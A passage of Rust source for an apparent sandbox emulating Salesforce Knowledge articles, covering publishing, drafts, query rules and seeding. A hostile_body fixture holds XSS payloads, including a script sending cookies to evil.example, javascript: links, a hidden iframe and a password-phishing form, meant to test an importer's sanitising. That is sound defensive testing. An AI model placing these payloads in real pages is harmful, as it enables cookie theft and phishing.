        None => versions.iter().map(|(_, d)| d.version).max().unwrap_or(0) + 1,
    };
    // The old Online versions become version history.
    for (id, data) in &online {
        let mut old = data.clone();
        old.status = "Archived";
        old.latest = false;
        old.archived = Some(stamp);
        rewrite(org, id, &old, stamp);
    }
    // The master.
    let mut master = base_master.clone();
    master.status = "Online";
    master.latest = true;
    master.version = version;
    master.last_published = Some(stamp);
    master.first_published = master.first_published.or(Some(stamp));
    master.archived = None;
    if language == master_language {
        apply(&mut master, change);
        check_title(&master.title)?;
    }
    let master_id = match master_draft {
        Some((id, _)) => {
            rewrite(org, id, &master, stamp);
            id.clone()
        }
        None => insert(org, kb, &master, stamp, stamp),
    };
    // Translations: a pending draft in a language wins over the Online one.
    let mut languages: Vec<String> = versions
        .iter()
        .filter(|(_, d)| !d.is_master() && d.status != "Archived")
        .map(|(_, d)| d.language.clone())
        .collect();
    if language != master_language && !languages.iter().any(|l| l == language) {
        languages.push(language.to_owned());
    }
    languages.sort();
    languages.dedup();
    for lang in languages {
        let draft = drafts.iter().find(|(_, d)| d.language == lang);
        let live = online.iter().find(|(_, d)| d.language == lang);
        let mut data = match (draft, live) {
            (Some((_, d)), _) | (None, Some((_, d))) => d.clone(),
            (None, None) => {
                let mut d = master.clone();
                d.language.clone_from(&lang);
                d.first_published = None;
                d
            }
        };
        data.status = "Online";
        data.latest = true;
        data.version = version;
        data.master_version = Some(master_id.clone());
        data.last_published = Some(stamp);
        data.first_published = data.first_published.or(Some(stamp));
        data.archived = None;
        if lang == language {
            apply(&mut data, change);
            data.out_of_date = false;
        } else if language == master_language {
            data.out_of_date = true;
        }
        match draft {
            Some((id, _)) => rewrite(org, id, &data, stamp),
            None => {
                insert(org, kb, &data, stamp, stamp);
            }
        }
    }
    Ok(())
}

/// A new master draft of a published article.
fn edit_as_draft(
    org: &mut Org,
    kb: &mut KbOrg,
    article_id: &str,
    change: &KbChange,
) -> Result<(), String> {
    check_change(change)?;
    let versions = versions_of(org, kb, article_id);
    if versions
        .iter()
        .any(|(_, d)| d.is_master() && d.status == "Draft")
    {
        return Err(format!("article {article_id} already has a draft"));
    }
    let Some((_, online)) = versions
        .iter()
        .find(|(_, d)| d.is_master() && d.status == "Online")
    else {
        return Err(format!("article {article_id} has no Online version"));
    };
    let mut draft = online.clone();
    draft.status = "Draft";
    draft.latest = true;
    draft.version = versions.iter().map(|(_, d)| d.version).max().unwrap_or(0) + 1;
    draft.validated = false;
    apply(&mut draft, change);
    check_title(&draft.title)?;
    let stamp = org.stamp();
    insert(org, kb, &draft, stamp, stamp);
    Ok(())
}

/// Archives the Online versions of `article_id`.
fn archive(org: &mut Org, kb: &KbOrg, article_id: &str) -> bool {
    let online: Vec<(String, VersionData)> = versions_of(org, kb, article_id)
        .into_iter()
        .filter(|(_, d)| d.status == "Online")
        .collect();
    if online.is_empty() {
        return false;
    }
    let stamp = org.stamp();
    for (id, mut data) in online {
        data.status = "Archived";
        data.archived = Some(stamp);
        rewrite(org, &id, &data, stamp);
    }
    true
}

fn add_article(org: &mut Org, kb: &mut KbOrg, new: &KbNewArticle) -> Result<String, String> {
    check_title(&new.title)?;
    check_change(&KbChange {
        body: Some(new.body.clone()),
        summary: new.summary.clone(),
        title: None,
    })?;
    let language = new
        .language
        .clone()
        .unwrap_or_else(|| DEFAULT_KNOWLEDGE_LANGUAGE.to_owned());
    if !kb.has_language(&language) {
        return Err(format!("{language} is not an active Knowledge language"));
    }
    let base = match &new.url_name {
        Some(name) => {
            let valid = !name.is_empty()
                && !name.starts_with('-')
                && !name.ends_with('-')
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
            if !valid {
                return Err(format!("URL Name: invalid value {name}"));
            }
            if kb.url_names.contains(name) {
                return Err(format!("URL Name: duplicate value {name}"));
            }
            name.clone()
        }
        None => slug(&new.title),
    };
    let url_name = kb.unique_url_name(&base);
    let (article_id, number) = kb.next_article();
    let stamp = org.stamp();
    let data = VersionData {
        article_id: article_id.clone(),
        number,
        status: if new.publish { "Online" } else { "Draft" },
        version: 1,
        latest: true,
        language: language.clone(),
        master_language: language,
        title: new.title.clone(),
        url_name,
        summary: new.summary.clone(),
        question: None,
        body: new.body.clone(),
        master_version: None,
        out_of_date: false,
        validated: new.publish,
        public: true,
        article_created: stamp,
        first_published: new.publish.then_some(stamp),
        last_published: new.publish.then_some(stamp),
        archived: None,
    };
    insert(org, kb, &data, stamp, stamp);
    Ok(article_id)
}

// ---------------------------------------------------------------------------------------
// SandboxState knobs
// ---------------------------------------------------------------------------------------

impl SandboxState {
    /// Seeds Salesforce Knowledge in `org` (the default OAuth user's org is
    /// [`super::DEFAULT_SALESFORCE_ORG`]): enables Knowledge with `en_US` and
    /// `seed.languages`, and adds `seed.articles` articles after any already there (see
    /// [`KnowledgeSeed`]). Answers what the org's Knowledge holds afterwards.
    pub fn seed_knowledge(&self, org: &str, seed: KnowledgeSeed) -> KnowledgeSummary {
        let mut store = self.sf_store();
        let mut kb = store.knowledge.remove(org).unwrap_or_default();
        kb.enabled = true;
        kb.add_language(DEFAULT_KNOWLEDGE_LANGUAGE);
        for language in &seed.languages {
            if supported(language) {
                kb.add_language(language);
            }
        }
        let (large, hostile) = seed_articles(store.org(org), &mut kb, &seed);
        let mut summary = summarize(store.org(org), &kb, org);
        summary.large_article_id = large;
        summary.hostile_article_id = hostile;
        store.knowledge.insert(org.to_owned(), kb);
        summary
    }

    /// Turns Salesforce Knowledge on or off for `org` (off: `Knowledge__kav` is an unknown
    /// object to every route; articles are kept). Seeding or adding an article turns it on.
    pub fn sf_kb_set_enabled(&self, org: &str, enabled: bool) {
        let mut store = self.sf_store();
        let kb = store.knowledge.entry(org.to_owned()).or_default();
        kb.enabled = enabled;
        kb.add_language(DEFAULT_KNOWLEDGE_LANGUAGE);
    }

    /// Adds an active Knowledge language to `org` (a Salesforce language code such as
    /// `es` or `pt_BR`); false for codes the stand-in does not know.
    pub fn sf_kb_add_language(&self, org: &str, language: &str) -> bool {
        if !supported(language) {
            return false;
        }
        let mut store = self.sf_store();
        store
            .knowledge
            .entry(org.to_owned())
            .or_default()
            .add_language(language);
        true
    }

    /// Every article of `org` with all its versions, in creation order.
    pub fn sf_kb_articles(&self, org: &str) -> Vec<KbArticle> {
        let store = self.sf_store();
        let (Some(kb), Some(o)) = (store.knowledge.get(org), store.org_ref(org)) else {
            return Vec::new();
        };
        kb.articles
            .keys()
            .filter_map(|id| article_view(o, kb, id))
            .collect()
    }

    /// One article of `org` by `KnowledgeArticleId` (15 or 18 characters).
    pub fn sf_kb_article(&self, org: &str, article_id: &str) -> Option<KbArticle> {
        let id = schema::normalize_id(article_id)?;
        let store = self.sf_store();
        article_view(store.org_ref(org)?, store.knowledge.get(org)?, &id)
    }

    /// Publishes a new version of article `article_id` as a Knowledge author would, with
    /// `change` applied to its `language` version (a language the article lacks gets a
    /// new translation): the Online versions become `Archived` history and a new version
    /// set (master and translations, `VersionNumber` + 1) goes Online; a pending master
    /// draft is what gets published. Errors (nothing changed): no such article, an
    /// archived article, an inactive language, a blank or too long title, a body over
    /// [`RICH_TEXT_MAX`] characters.
    pub fn sf_kb_publish_new_version(
        &self,
        org: &str,
        article_id: &str,
        language: &str,
        change: KbChange,
    ) -> Result<KbArticle, String> {
        let id = schema::normalize_id(article_id).ok_or("malformed article id")?;
        self.with_kb(org, |o, kb| {
            publish_new_version(o, kb, &id, language, &change)?;
            article_view(o, kb, &id).ok_or_else(|| "article vanished".to_owned())
        })
    }

    /// Starts a new master draft of a published article (`change` applied); the Online
    /// version stays Online until [`SandboxState::sf_kb_publish_new_version`].
    pub fn sf_kb_edit_as_draft(
        &self,
        org: &str,
        article_id: &str,
        change: KbChange,
    ) -> Result<KbArticle, String> {
        let id = schema::normalize_id(article_id).ok_or("malformed article id")?;
        self.with_kb(org, |o, kb| {
            edit_as_draft(o, kb, &id, &change)?;
            article_view(o, kb, &id).ok_or_else(|| "article vanished".to_owned())
        })
    }

    /// Archives article `article_id`: its Online master and translations become
    /// `Archived` (`ArchivedDate` now). False when it has no Online version.
    pub fn sf_kb_archive(&self, org: &str, article_id: &str) -> bool {
        let Some(id) = schema::normalize_id(article_id) else {
            return false;
        };
        self.with_kb(org, |o, kb| Ok::<_, ()>(archive(o, kb, &id)))
            .unwrap_or(false)
    }

    /// Adds an article (enabling Knowledge for `org`); answers it.
    pub fn sf_kb_add_article(&self, org: &str, article: KbNewArticle) -> Result<KbArticle, String> {
        self.with_kb(org, |o, kb| {
            kb.enabled = true;
            kb.add_language(DEFAULT_KNOWLEDGE_LANGUAGE);
            let id = add_article(o, kb, &article)?;
            article_view(o, kb, &id).ok_or_else(|| "article vanished".to_owned())
        })
    }

    /// Runs `f` on `org`'s records and Knowledge state.
    fn with_kb<R, E>(
        &self,
        org: &str,
        f: impl FnOnce(&mut Org, &mut KbOrg) -> Result<R, E>,
    ) -> Result<R, E> {
        let mut store = self.sf_store();
        let mut kb = store.knowledge.remove(org).unwrap_or_default();
        let result = f(store.org(org), &mut kb);
        store.knowledge.insert(org.to_owned(), kb);
        result
    }
}

fn summarize(org: &Org, kb: &KbOrg, org_id: &str) -> KnowledgeSummary {
    let table = org.table(SfObject::Knowledge);
    let mut summary = KnowledgeSummary {
        org: org_id.to_owned(),
        languages: kb.languages(),
        article_ids: kb.articles.keys().cloned().collect(),
        ..KnowledgeSummary::default()
    };
    let mut newest: Option<i64> = None;
    for ids in kb.articles.values() {
        let mut published = false;
        let mut only_drafts = true;
        for rec in ids.iter().filter_map(|id| table.live(id)) {
            let status = rec.values[PUBLISH_STATUS].as_str().unwrap_or_default();
            let master = rec.values[IS_MASTER].as_bool() == Some(true);
            match status {
                "Online" => {
                    summary.online_versions += 1;
                    summary.online_version_ids.push(rec.id.clone());
                    if master {
                        published = true;
                    } else {
                        summary.online_translations += 1;
                    }
                    newest = newest.max(rec.values[LAST_PUBLISHED].as_i64());
                    only_drafts = false;
                }
                "Archived" => {
                    summary.archived_versions += 1;
                    only_drafts = false;
                }
                _ => summary.drafts += 1,
            }
        }
        summary.published_articles += usize::from(published);
        summary.unpublished_articles += usize::from(only_drafts);
    }
    summary.newest_published = newest.map(sf_datetime);
    summary
}

// ---------------------------------------------------------------------------------------
// Routes
// ---------------------------------------------------------------------------------------

fn enabled(state: &SandboxState, org: &str) -> bool {
    state
        .sf_store()
        .knowledge
        .get(org)
        .is_some_and(|kb| kb.enabled)
}

fn major(version: &str) -> u32 {
    version
        .split('.')
        .next()
        .and_then(|m| m.parse().ok())
        .unwrap_or(0)
}

/// Serves the Knowledge routes: describe and retrieve of `Knowledge__kav` and
/// `/knowledgeManagement/settings`; `None` for every other request.
pub(crate) fn serve(
    route: SfRoute,
    state: &SandboxState,
    req: &ProviderRequest,
    org: &str,
    version: &str,
    segments: &[&str],
) -> Option<Handled> {
    if route == SfRoute::KnowledgeSettings {
        return Some(settings(state, org, version));
    }
    let names_knowledge =
        matches!(segments, ["sobjects", name, ..] if object_named(name).is_some());
    if !names_knowledge || !matches!(route, SfRoute::Describe | SfRoute::Get) {
        return None;
    }
    if !enabled(state, org) {
        return Some(Err(not_found()));
    }
    Some(match (route, segments) {
        (SfRoute::Describe, _) => Ok((StatusCode::OK, Some(describe(state, org, version)))),
        (SfRoute::Get, ["sobjects", _, id]) => get(state, req, org, version, id),
        _ => Err(not_found()),
    })
}

/// `GET /knowledgeManagement/settings`.
fn settings(state: &SandboxState, org: &str, version: &str) -> Handled {
    if major(version) < SETTINGS_FROM {
        return Err(not_found());
    }
    let store = state.sf_store();
    let Some(kb) = store.knowledge.get(org).filter(|kb| kb.enabled) else {
        return Err(not_found());
    };
    let languages: Vec<Value> = kb
        .languages()
        .iter()
        .map(|name| json!({"active": true, "name": name}))
        .collect();
    Ok((
        StatusCode::OK,
        Some(json!({
            "defaultLanguage": DEFAULT_KNOWLEDGE_LANGUAGE,
            "knowledgeEnabled": true,
            "languages": languages,
        })),
    ))
}

/// `GET /sobjects/Knowledge__kav/describe`.
fn describe(state: &SandboxState, org: &str, version: &str) -> Value {
    let mut body = schema::describe(SfObject::Knowledge, version);
    body["label"] = json!("Knowledge");
    let languages = state.sf_store().knowledge.get(org).map_or_else(
        || vec![DEFAULT_KNOWLEDGE_LANGUAGE.to_owned()],
        KbOrg::languages,
    );
    if let Some(fields) = body["fields"].as_array_mut() {
        for field in fields {
            let name = field["name"].as_str().unwrap_or_default().to_owned();
            let rich = matches!(name.as_str(), "Question__c" | "Answer__c");
            field["htmlFormatted"] = json!(rich);
            field["extraTypeInfo"] = match name.as_str() {
                "Question__c" | "Answer__c" => json!("richtextarea"),
                "Summary" => json!("plaintextarea"),
                _ => Value::Null,
            };
            match name.as_str() {
                "Language" | "ArticleMasterLanguage" => {
                    field["picklistValues"] = languages
                        .iter()
                        .map(|l| json!({"active": true, "defaultValue": l == DEFAULT_KNOWLEDGE_LANGUAGE, "label": l, "validFor": null, "value": l}))
                        .collect();
                    field["restrictedPicklist"] = json!(true);
                }
                "KnowledgeArticleId" => {
                    field["referenceTo"] = json!(["Knowledge__ka"]);
                    field["relationshipName"] = json!("KnowledgeArticle");
                }
                "OwnerId" => {
                    field["referenceTo"] = json!(["User"]);
                    field["relationshipName"] = json!("Owner");
                }
                "MasterVersionId" => field["relationshipName"] = json!("MasterVersion"),
                "PublishStatus" | "ValidationStatus" => field["restrictedPicklist"] = json!(true),
                _ => {}
            }
        }
    }
    body
}

/// `GET /sobjects/Knowledge__kav/{id}[?fields=]`: a version of any status.
fn get(state: &SandboxState, req: &ProviderRequest, org: &str, version: &str, id: &str) -> Handled {
    let fields = field_list(
        SfObject::Knowledge,
        wire::query_param(req.query.as_deref(), "fields").as_deref(),
    )?;
    let mut store = state.sf_store();
    let table = store.org(org).table(SfObject::Knowledge);
    schema::normalize_id(id)
        .and_then(|id| table.live(&id))
        .map(|rec| {
            (
                StatusCode::OK,
                Some(rec.to_json(SfObject::Knowledge, &fields, version)),
            )
        })
        .ok_or_else(not_found)
}

// ---------------------------------------------------------------------------------------
// Query rules
// ---------------------------------------------------------------------------------------

/// How often each rule-relevant filter appears in a query's `WHERE`.
#[derive(Default)]
struct Filters {
    /// `PublishStatus = 'x'` in the top-level AND.
    status: usize,
    /// `PublishStatus` anywhere.
    status_anywhere: usize,
    /// `Id` / `KnowledgeArticleId` `=` or `IN` in the top-level AND.
    ids: bool,
    /// `Language = 'x'` in the top-level AND.
    language: bool,
}

fn mentions(expr: &Expr, field: usize) -> usize {
    match expr {
        Expr::And(items) | Expr::Or(items) => items.iter().map(|e| mentions(e, field)).sum(),
        Expr::Not(inner) => mentions(inner, field),
        Expr::Compare(f, _, _) | Expr::In(f, _, _) | Expr::Like(f, _) => usize::from(*f == field),
    }
}

fn filters(filter: Option<&Expr>) -> Filters {
    let mut found = Filters::default();
    let Some(filter) = filter else {
        return found;
    };
    found.status_anywhere = mentions(filter, PUBLISH_STATUS);
    let conjuncts: Vec<&Expr> = match filter {
        Expr::And(items) => items.iter().collect(),
        other => vec![other],
    };
    for conjunct in conjuncts {
        match conjunct {
            Expr::Compare(PUBLISH_STATUS, Op::Eq, Literal::Text(_)) => found.status += 1,
            Expr::Compare(ID | ARTICLE_ID, Op::Eq, Literal::Text(_))
            | Expr::In(ID | ARTICLE_ID, _, false) => found.ids = true,
            Expr::Compare(LANGUAGE, Op::Eq, Literal::Text(_)) => found.language = true,
            _ => {}
        }
    }
    found
}

/// Salesforce's Knowledge rules for a parsed query (see the module doc); other objects
/// pass unchanged. Before API 47.0 a query without a `PublishStatus` filter gets
/// `PublishStatus = 'Online'` added.
pub(crate) fn check_query(
    state: &SandboxState,
    org: &str,
    version: &str,
    text: &str,
    mut query: Query,
) -> Result<Query, Response> {
    if query.object != SfObject::Knowledge {
        return Ok(query);
    }
    if !enabled(state, org) {
        let written: String = text[query.from_at.min(text.len())..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        return Err(bad_request(
            "INVALID_TYPE",
            &located(
                text,
                query.from_at,
                &format!(
                    "sObject type '{written}' is not supported. If you are attempting to use a custom object, be sure to append the '__c' after the entity name. Please reference your WSDL or the describe call for the appropriate names."
                ),
            ),
        ));
    }
    let found = filters(query.filter.as_ref());
    let status_ok = found.status <= 1 && found.status_anywhere == found.status;
    if !status_ok || (found.status == 0 && !found.ids) {
        return Err(bad_request("MALFORMED_QUERY", PUBLISH_STATUS_RESTRICTION));
    }
    let legacy = major(version) < LANGUAGE_OPTIONAL_FROM;
    if legacy && !found.ids && !found.language {
        return Err(bad_request("MALFORMED_QUERY", LANGUAGE_RESTRICTION));
    }
    if legacy && found.status == 0 {
        let online = Expr::Compare(PUBLISH_STATUS, Op::Eq, Literal::Text("Online".to_owned()));
        query.filter = Some(match query.filter.take() {
            Some(Expr::And(mut items)) => {
                items.push(online);
                Expr::And(items)
            }
            Some(other) => Expr::And(vec![other, online]),
            None => online,
        });
    }
    Ok(query)
}

/// The page size for a query of `object` selecting `fields`: at most
/// [`LONG_TEXT_BATCH`] when two or more custom long text fields are selected.
pub(crate) fn batch_limit(object: SfObject, fields: Option<&[usize]>, size: usize) -> usize {
    let long_custom = fields.map_or(0, |fields| {
        fields
            .iter()
            .filter(|&&i| is_long_text(i) && FIELDS[i].custom)
            .count()
    });
    if object == SfObject::Knowledge && long_custom >= 2 {
        size.min(LONG_TEXT_BATCH)
    } else {
        size
    }
}

/// Where the page of `cursor` starting at `offset` ends: `size` rows, fewer when the
/// selected long text of Knowledge rows passes [`LONG_TEXT_PAGE_BYTES`].
pub(crate) fn page_end(cursor: &Cursor, offset: usize, size: usize) -> usize {
    let total = cursor.rows.len();
    let end = offset.saturating_add(size).min(total);
    if cursor.object != SfObject::Knowledge {
        return end;
    }
    let long: Vec<usize> = cursor
        .fields
        .iter()
        .copied()
        .filter(|&i| is_long_text(i))
        .collect();
    if long.is_empty() {
        return end;
    }
    let start = offset.min(end);
    let mut used = 0usize;
    for (k, rec) in cursor.rows[start..end].iter().enumerate() {
        used += long
            .iter()
            .filter_map(|&i| rec.values.get(i).and_then(Value::as_str))
            .map(str::len)
            .sum::<usize>();
        if used >= LONG_TEXT_PAGE_BYTES {
            return start + k + 1;
        }
    }
    end
}

// ---------------------------------------------------------------------------------------
// Seeding
// ---------------------------------------------------------------------------------------

/// SplitMix64: a deterministic spread of `x`.
fn mix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// `en`, `fr`, `de`, `es` texts; other languages use English.
fn lang_index(language: &str) -> Option<usize> {
    match language {
        "en_US" | "en_GB" => Some(0),
        "fr" => Some(1),
        "de" => Some(2),
        "es" => Some(3),
        _ => None,
    }
}

#[rustfmt::skip]
const ACTIONS: [[&str; 4]; 12] = [
    ["How to reset", "Comment réinitialiser", "So setzen Sie zurück:", "Cómo restablecer"],
    ["Troubleshooting", "Dépannage de", "Fehlerbehebung bei", "Solución de problemas de"],
    ["Setting up", "Configurer", "Einrichten von", "Configurar"],
    ["Understanding", "Comprendre", "Grundlagen zu", "Entender"],
    ["Exporting", "Exporter", "Exportieren von", "Exportar"],
    ["Securing", "Sécuriser", "Absichern von", "Proteger"],
    ["Migrating", "Migrer", "Migrieren von", "Migrar"],
    ["Updating", "Mettre à jour", "Aktualisieren von", "Actualizar"],
    ["Sharing", "Partager", "Freigeben von", "Compartir"],
    ["Deleting", "Supprimer", "Löschen von", "Eliminar"],
    ["Connecting", "Connecter", "Verbinden von", "Conectar"],
    ["Renewing", "Renouveler", "Verlängern von", "Renovar"],
];

#[rustfmt::skip]
const SUBJECTS: [[&str; 4]; 16] = [
    ["your password", "votre mot de passe", "Ihr Passwort", "tu contraseña"],
    ["two-factor authentication", "l'authentification à deux facteurs", "die Zwei-Faktor-Authentifizierung", "la autenticación en dos pasos"],
    ["invoices", "les factures", "Rechnungen", "las facturas"],
    ["the mobile app", "l'application mobile", "die mobile App", "la aplicación móvil"],
    ["user permissions", "les droits des utilisateurs", "Benutzerberechtigungen", "los permisos de usuario"],
    ["email notifications", "les notifications par e-mail", "E-Mail-Benachrichtigungen", "las notificaciones por correo"],
    ["the API key", "la clé d'API", "den API-Schlüssel", "la clave de API"],
    ["single sign-on", "l'authentification unique", "Single Sign-on", "el inicio de sesión único"],
    ["data exports", "les exports de données", "Datenexporte", "las exportaciones de datos"],
    ["your subscription", "votre abonnement", "Ihr Abonnement", "tu suscripción"],
    ["webhooks", "les webhooks", "Webhooks", "los webhooks"],
    ["team workspaces", "les espaces d'équipe", "Team-Arbeitsbereiche", "los espacios de equipo"],
    ["the calendar sync", "la synchronisation du calendrier", "die Kalendersynchronisierung", "la sincronización del calendario"],
    ["custom fields", "les champs personnalisés", "benutzerdefinierte Felder", "los campos personalizados"],
    ["audit logs", "les journaux d'audit", "Audit-Protokolle", "los registros de auditoría"],
    ["the browser extension", "l'extension de navigateur", "die Browsererweiterung", "la extensión del navegador"],
];

#[rustfmt::skip]
const SENTENCES: [[&str; 4]; 8] = [
    ["Open Settings and choose the section you need.", "Ouvrez les Paramètres et choisissez la section voulue.", "Öffnen Sie die Einstellungen und wählen Sie den gewünschten Bereich.", "Abre Configuración y elige la sección que necesitas."],
    ["Changes take effect within a few minutes.", "Les modifications prennent effet en quelques minutes.", "Änderungen werden innerhalb weniger Minuten wirksam.", "Los cambios se aplican en unos minutos."],
    ["Only administrators can change this setting.", "Seuls les administrateurs peuvent modifier ce paramètre.", "Nur Administratoren können diese Einstellung ändern.", "Solo los administradores pueden cambiar este ajuste."],
    ["If the problem persists, sign out and sign in again.", "Si le problème persiste, déconnectez-vous puis reconnectez-vous.", "Wenn das Problem weiterhin besteht, melden Sie sich ab und wieder an.", "Si el problema continúa, cierra sesión y vuelve a entrar."],
    ["You receive a confirmation email when it is done.", "Vous recevez un e-mail de confirmation une fois terminé.", "Sie erhalten eine Bestätigung per E-Mail, sobald es erledigt ist.", "Recibirás un correo de confirmación al terminar."],
    ["Check that your browser is up to date.", "Vérifiez que votre navigateur est à jour.", "Prüfen Sie, ob Ihr Browser aktuell ist.", "Comprueba que tu navegador esté actualizado."],
    ["The history keeps the last 90 days of activity.", "L'historique conserve les 90 derniers jours d'activité.", "Der Verlauf enthält die Aktivitäten der letzten 90 Tage.", "El historial guarda los últimos 90 días de actividad."],
    ["Contact support with the reference shown on screen.", "Contactez le support avec la référence affichée.", "Wenden Sie sich mit der angezeigten Referenz an den Support.", "Contacta con soporte indicando la referencia mostrada."],
];

fn text_in(entry: &[&str; 4], language: &str) -> String {
    match lang_index(language) {
        Some(i) => entry[i].to_owned(),
        None => format!("[{language}] {}", entry[0]),
    }
}

fn title(n: u64, seed: u64, language: &str) -> String {
    let action = &ACTIONS[usize::try_from(mix(n ^ seed) % 12).unwrap_or(0)];
    let subject = &SUBJECTS[usize::try_from(mix((n ^ seed).wrapping_add(7)) % 16).unwrap_or(0)];
    let (a, s) = (text_in(action, language), text_in(subject, language));
    // `[xx] Action [xx] subject` reads badly: mark the language once.
    let s = s
        .strip_prefix(&format!("[{language}] "))
        .map_or(s.clone(), str::to_owned);
    format!("{a} {s}")
}

fn slug(title: &str) -> String {
    let mut slug = title
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| !w.is_empty())
        .collect::<Vec<_>>()
        .join("-");
    slug.truncate(80);
    slug.trim_end_matches('-').to_owned()
}

fn escape_html(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn body(n: u64, seed: u64, language: &str, version: u32, number: &str, title: &str) -> String {
    let mut html = format!("<h2>{}</h2>", escape_html(title));
    let x = mix(n ^ seed.rotate_left(17) ^ u64::from(version));
    let _ = write!(
        html,
        "<p>{}</p><ol>",
        text_in(&SENTENCES[(x % 8) as usize], language)
    );
    for k in 0..(3 + x % 4) {
        let s = &SENTENCES[((x >> (k * 3 + 5)) % 8) as usize];
        let _ = write!(html, "<li>{}</li>", text_in(s, language));
    }
    let _ = write!(
        html,
        "</ol><p><img src=\"https://acme.file.force.com/servlet/rtaImage?eid=ka0&amp;refid={number}\" alt=\"\"></p><p>{} <a href=\"https://help.acme.example/s/article/{number}\">{number}</a>. v{version}</p>",
        text_in(&SENTENCES[((x >> 40) % 8) as usize], language),
    );
    html
}

/// A rich text body of exactly [`RICH_TEXT_MAX`] characters, mostly 3- and 4-byte ones,
/// so it is over [`DYNAMODB_ITEM_LIMIT`] bytes.
fn large_body() -> String {
    const TEXT: [char; 8] = ['ナ', 'レ', 'ッ', '📘', 'ジ', '記', '事', '🔧'];
    let mut html = String::with_capacity(RICH_TEXT_MAX * 4);
    let mut chars = 0usize;
    while chars + 7 < RICH_TEXT_MAX {
        html.push_str("<p>");
        chars += 3;
        let room = (RICH_TEXT_MAX - chars - 4).min(993);
        for k in 0..room {
            html.push(TEXT[k % TEXT.len()]);
        }
        chars += room;
        html.push_str("</p>");
        chars += 4;
    }
    while chars < RICH_TEXT_MAX {
        html.push('.');
        chars += 1;
    }
    html
}

/// An ordinary body with script, event handlers, `javascript:` links, an iframe and a
/// form mixed in: what an importer must sanitise.
fn hostile_body(number: &str) -> String {
    format!(
        concat!(
            "<p>If you are sent back to the sign-in page after signing in, clear your cookies first.</p>",
            "<script>fetch('https://evil.example/steal?c=' + encodeURIComponent(document.cookie))</script>",
            "<p><img src=\"https://acme.file.force.com/servlet/rtaImage?refid={number}\" alt=\"Sign-in page\" onerror=\"alert(document.domain)\"></p>",
            "<p>Still stuck? <a href=\"javascript:alert('xss')\">Open the troubleshooting assistant</a> or ",
            "<a href=\" JaVaScRiPt:void(document.location='https://evil.example')\">reset your session</a>.</p>",
            "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>",
            "<p onmouseover=\"alert(1)\" style=\"background-image:url(javascript:alert(2))\">Hover here for tips.</p>",
            "<svg><script>alert(3)</script></svg>",
            "<form action=\"https://evil.example/phish\"><input name=\"password\" type=\"password\"></form>",
        ),
        number = number,
    )
}

/// Whether `n` (0-based) is an every-`k`th one.
fn every(n: usize, k: usize) -> bool {
    k > 0 && (n + 1).is_multiple_of(k)
}

/// Adds the seed's articles; answers the large and hostile articles' ids.
fn seed_articles(
    org: &mut Org,
    kb: &mut KbOrg,
    seed: &KnowledgeSeed,
) -> (Option<String>, Option<String>) {
    let translations: Vec<String> = kb
        .languages()
        .into_iter()
        .filter(|l| l != DEFAULT_KNOWLEDGE_LANGUAGE)
        .collect();
    let mut large_id = None;
    let mut hostile_id = None;
    let start = kb.next_article;
    for i in 0..seed.articles {
        let n = start + i as u64;
        let (article_id, number) = kb.next_article();
        let x = mix(n ^ seed.seed);
        let created = SEED_EPOCH_MS + (n as i64) * 37 * MINUTE_MS + (x % 30) as i64 * MINUTE_MS;
        let large = seed.large_article && i == 0;
        let hostile = seed.hostile_article && i == usize::from(seed.large_article);
        let draft_k = every(i, seed.draft_every).then(|| (i + 1) / seed.draft_every.max(1));
        let draft_only = draft_k.is_some_and(|k| k % 2 == 1) && !large && !hostile;
        let draft_of_online = draft_k.is_some() && !draft_only;
        let history = every(i, seed.history_every) && !draft_only;
        let translated = every(i, seed.translated_every) && !draft_only;
        let master_title = title(n, seed.seed, DEFAULT_KNOWLEDGE_LANGUAGE);
        let url_name = kb.unique_url_name(&slug(&master_title));
        let make = |language: &str, version: u32| {
            let t = if language == DEFAULT_KNOWLEDGE_LANGUAGE {
                master_title.clone()
            } else {
                title(n, seed.seed, language)
            };
            let body = if large && language == DEFAULT_KNOWLEDGE_LANGUAGE {
                large_body()
            } else if hostile && language == DEFAULT_KNOWLEDGE_LANGUAGE {
                hostile_body(&number)
            } else {
                body(n, seed.seed, language, version, &number, &t)
            };
            VersionData {
                article_id: article_id.clone(),
                number: number.clone(),
                status: "Draft",
                version,
                latest: true,
                language: language.to_owned(),
                master_language: DEFAULT_KNOWLEDGE_LANGUAGE.to_owned(),
                summary: (!x.is_multiple_of(4))
                    .then(|| text_in(&SENTENCES[((x >> 8) % 8) as usize], language)),
                question: x
                    .is_multiple_of(3)
                    .then(|| format!("<p>{}?</p>", escape_html(&t))),
                title: t,
                url_name: url_name.clone(),
                body,
                master_version: None,
                out_of_date: false,
                validated: false,
                public: !x.is_multiple_of(5),
                article_created: created,
                first_published: None,
                last_published: None,
                archived: None,
            }
        };
        if large {
            large_id = Some(article_id.clone());
        }
        if hostile {
            hostile_id = Some(article_id.clone());
        }
        if draft_only {
            let data = make(DEFAULT_KNOWLEDGE_LANGUAGE, 1);
            insert(org, kb, &data, created, created + 5 * MINUTE_MS);
            continue;
        }
        let first_publish = created + (1 + (x >> 20) % 120) as i64 * MINUTE_MS;
        let mut version = 1;
        let mut published_at = first_publish;
        let languages: Vec<&str> = std::iter::once(DEFAULT_KNOWLEDGE_LANGUAGE)
            .chain(
                translated
                    .then_some(translations.iter().map(String::as_str))
                    .into_iter()
                    .flatten(),
            )
            .collect();
        if history {
            let archived_at = first_publish + (1 + (x >> 30) % 20) as i64 * 24 * 60 * MINUTE_MS;
            let mut master_id = None;
            for language in &languages {
                let mut data = make(language, 1);
                data.status = "Archived";
                data.latest = false;
                data.validated = true;
                data.first_published = Some(first_publish);
                data.last_published = Some(first_publish);
                data.archived = Some(archived_at);
                data.master_version = master_id.clone();
                let id = insert(org, kb, &data, created, archived_at);
                master_id.get_or_insert(id);
            }
            version = 2;
            published_at = archived_at;
        }
        let mut master_id: Option<String> = None;
        for language in &languages {
            let mut data = make(language, version);
            data.status = "Online";
